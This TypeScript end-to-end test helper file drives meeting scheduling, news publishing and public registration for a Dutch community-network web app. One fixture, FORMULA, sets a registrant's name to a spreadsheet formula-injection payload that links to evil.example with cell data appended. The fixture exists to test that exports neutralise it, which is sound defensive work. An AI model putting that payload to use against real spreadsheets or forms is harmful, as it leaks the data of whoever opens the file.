// SPDX-License-Identifier: EUPL-1.2
/**
 * Scenario 03, "The yearly network meeting" (network-meeting-scenario.e2e.ts): the people, what they
 * type, and the steps the walk repeats: filling the meeting form, writing and publishing a news
 * article, registering on a meeting's public page, reading a cancel link from the development
 * outbox, and downloading a file (its bytes through the link on the page, its headers through the
 * context's own request, which carries the same cookies).
 */
import fs from 'node:fs/promises';
import type { APIResponse, Locator, Page } from 'playwright-core';
import { expect } from 'vitest';
import { messages } from '#src/web/i18n/messages.ts';
import { expectNotice, type FieldDate, fillDate } from './circle-scenario.ts';
import { axe, textOf } from './walk.ts';

const t = messages('nl');
const m = t.meetings;
const f = m.editor.fields;
const news = t.news.editor;

export const PETRA = 'netwerk@demo.kring.nl';
export const TITLE = 'Samen sterk in de kring van veiligheid';
export const AGENDA = [
  'Welkom door de wethouder',
  'Verbind voor het kind! De campagne van dit jaar',
  'In gesprek: wat kunnen wij samen beter doen?',
] as const;

/** Someone who registers on the public page. */
export interface Person {
  readonly name: string;
  readonly organisation: string;
  readonly email: string;
  readonly role: 'resident' | 'volunteer' | 'professional';
}

export const AHMED: Person = {
  name: 'Ahmed El Amrani',
  organisation: 'VV Harderwijk',
  email: 'ahmed@vvharderwijk.example',
  role: 'volunteer',
};
export const SANNE: Person = {
  name: 'Sanne Bakker',
  organisation: 'Sociaal wijkteam Harderwijk',
  email: 'sanne@wijkteam.example',
  role: 'professional',
};
export const KARIN: Person = {
  name: 'Karin de Vries',
  organisation: '',
  email: 'karin@thuis.example',
  role: 'resident',
};
/** A name a spreadsheet would run as a formula, were it not neutralised. */
export const FORMULA: Person = {
  name: '=HYPERLINK("https://evil.example/?d="&C2,"Klik hier")',
  organisation: '+31 Vereniging',
  email: 'formule@evil.example',
  role: 'resident',
};

/** The meeting form as typed. */
export interface MeetingValues {
  readonly title: string;
  readonly date: FieldDate;
  readonly start: string;
  readonly end: string;
  readonly placeName: string;
  readonly placeAddress: string;
  readonly agenda: readonly string[];
  readonly capacity: string;
}

/** Fills every field of the meeting form and ticks "public". */
export async function fillMeetingForm(page: Page, v: MeetingValues): Promise<void> {
  await page.getByLabel(f.title, { exact: true }).fill(v.title);
  await fillDate(page, f.date, v.date);
  await page.getByLabel(f.startTime, { exact: true }).fill(v.start);
  await page.getByLabel(f.endTime, { exact: true }).fill(v.end);
  await page.getByLabel(f.placeName, { exact: true }).fill(v.placeName);
  await page.getByLabel(f.placeAddress, { exact: true }).fill(v.placeAddress);
  await page.getByLabel(f.agenda).fill(v.agenda.join('\n'));
  await page.getByLabel(f.capacity, { exact: true }).fill(v.capacity);
  await page.getByLabel(f.publishedItem).check();
}

/** Saves the meeting form and waits for the notice; answers the meeting's id from the URL. */
export async function saveMeeting(page: Page, notice: string): Promise<string> {
  await page.getByRole('button', { name: m.editor.save }).click();
  await expectNotice(page, notice);
  const id = /\/netwerk\/bijeenkomsten\/([0-9a-f-]{36})\?melding=/.exec(page.url())?.[1];
  expect(id, page.url()).toBeDefined();
  return id!;
}

/** Opens a meeting's edit form from its editor page. */
export async function openEditForm(page: Page, baseUrl: string, id: string, label: string): Promise<void> {
  await page.goto(`${baseUrl}/netwerk/bijeenkomsten/${id}`);
  await page.getByRole('link', { name: m.editor.edit, exact: true }).click();
  await page.getByLabel(f.title, { exact: true }).waitFor();
  await axe(page, label);
}

/**
 * Writes a news article at /netwerk/nieuws and publishes it at once; ends on its public page.
 * @returns the article's public path
 */
export async function publishArticle(
  page: Page,
  baseUrl: string,
  article: { title: string; summary: string; body: string },
  label: string,
): Promise<string> {
  await page.goto(`${baseUrl}/netwerk/nieuws`);
  await axe(page, `nieuws beheren (${label})`);
  await page.getByRole('link', { name: news.newArticle }).click();
  await page.getByLabel(news.fields.title, { exact: true }).waitFor();
  await axe(page, `nieuw artikel (${label})`);
  await page.getByLabel(news.fields.title, { exact: true }).fill(article.title);
  await page.getByLabel(news.fields.summary).fill(article.summary);
  await page.getByLabel(news.fields.body).fill(article.body);
  await page.getByRole('button', { name: news.actions.publish }).click();
  await expect.poll(() => page.url()).toContain('melding=gepubliceerd');
  await axe(page, `artikel gepubliceerd (${label})`);
  await page.getByRole('link', { name: news.publicLink }).click();
  await expect.poll(() => page.url()).toMatch(/\/nieuws\/[a-z0-9-]+$/);
  await page.getByRole('heading', { name: article.title, level: 1 }).waitFor();
  await axe(page, `artikel openbaar (${label})`);
  return new URL(page.url()).pathname;
}

/** Fills and sends the registration form on a meeting's public page; ends on the page after it. */
export async function register(page: Page, who: Person, label: string): Promise<void> {
  const d = m.public;
  await page.getByLabel(d.fields.name, { exact: true }).fill(who.name);
  if (who.organisation) await page.getByLabel(d.fields.organisation).fill(who.organisation);
  await page.getByLabel(d.fields.email, { exact: true }).fill(who.email);
  await page.getByRole('group', { name: d.fields.role }).getByLabel(m.roles[who.role], { exact: true }).check();
  await page.getByRole('button', { name: d.submit }).click();
  await page.getByRole('heading', { name: d.receivedTitle, level: 1 }).waitFor();
  expect(await page.locator('main').textContent()).toContain(d.receivedText);
  await axe(page, `aanmelding ontvangen (${label})`);
}

/** The path and query of the cancel link in a mail's text (the link names Kring's public address). */
export function cancelLinkOf(text: string): string {
  const link = /https?:\/\/[^\s/]+(\/bijeenkomsten\/afmelden\?code=[A-Za-z0-9_-]{43})(?:\s|$)/.exec(text);
  expect(link, `no cancel link in: ${text}`).not.toBeNull();
  return link![1]!;
}

/** A file downloaded by clicking a link, and the response of the same URL fetched again (for its headers). */
export async function download(
  page: Page,
  link: Locator,
): Promise<{ name: string; text: string; response: APIResponse }> {
  const href = await link.getAttribute('href');
  expect(href).toBeTruthy();
  const [file] = await Promise.all([page.waitForEvent('download'), link.click()]);
  const path = await file.path();
  const text = await fs.readFile(path, 'utf8');
  const response = await page.context().request.get(new URL(href!, page.url()).href);
  expect(response.status()).toBe(200);
  return { name: file.suggestedFilename(), text, response };
}

/** The body rows of a table (found by its caption) as cell texts, white space collapsed. */
export async function rowsOf(page: Page, caption: string): Promise<string[][]> {
  const out: string[][] = [];
  for (const row of await page.getByRole('table', { name: caption }).locator('tbody tr').all()) {
    const cells: string[] = [];
    for (const cell of await row.locator('th, td').all()) cells.push(await textOf(cell));
    out.push(cells);
  }
  return out;
}

/** Each registration on the editor's page of a meeting as its name and status. */
export async function registrationsOn(page: Page): Promise<string[][]> {
  return (await rowsOf(page, m.editor.registrationsTitle)).map((r) => [r[0] ?? '', r[4] ?? '']);
}
